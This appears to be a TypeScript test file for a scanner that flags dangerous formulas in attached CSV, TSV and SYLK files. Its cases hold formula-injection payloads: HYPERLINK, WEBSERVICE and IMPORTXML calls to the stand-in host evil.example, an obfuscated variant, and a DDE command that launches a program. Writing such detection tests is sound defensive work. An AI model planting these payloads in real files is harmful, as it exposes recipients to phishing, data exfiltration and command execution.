/** Tables as text that a spreadsheet calculates. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { idsOf, openFile, urlsOf } from '../../../../test/builders/attached-files.ts';

const U = 'https://evil.example/x';

describe('a table as text', () => {
  const cases: [what: string, name: string, text: string, ids: string[]][] = [
    ['a link', 'a.csv', `Name,Invoice\nAnna,"=HYPERLINK(""${U}"",""Open invoice"")"\n`, ['formula-link']],
    ['put together', 'a.csv', 'x;=HYPERLINK("https://ev"&"il.example"&"/x")', ['formula-link']],
    ['behind another sign', 'a.tsv', `x\t@HYPERLINK("${U}")`, ['formula-link']],
    ['fetched', 'a.csv', `=WEBSERVICE("${U}")`, ['external-object']],
    ['within another formula', 'a.csv', `1,"=IF(A1>2,IMPORTXML(""${U}"",""//a""),0)"`, ['external-object']],
    ['SYLK', 'a.slk', `ID;P\nC;X1;Y1;EHYPERLINK("${U}")\nE\n`, ['executable', 'formula-link']],
    ['only said', 'a.csv', `Use HYPERLINK("${U}") for links`, []],
  ];
  for (const [what, name, text, ids] of cases) {
    it(what, () => {
      const files = openFile(name, text);
      assert.deepEqual([idsOf(files), urlsOf(files)[0]], [ids, U]);
    });
  }

  it('that starts a program', () => {
    assert.deepEqual(idsOf(openFile('', "a,b\n1,=cmd|'/C calc'!A0\n", 'text/csv')), ['dynamic-exchange']);
    assert.deepEqual(idsOf(openFile('a.csv', "a,b\n1,-5\n2,it's|that's\n")), []);
  });

  it('shows the words of the link', () => {
    assert.equal(openFile('a.csv', `=HYPERLINK("${U}";"Open invoice")`).links[0]?.found.text, 'Open invoice');
  });
});
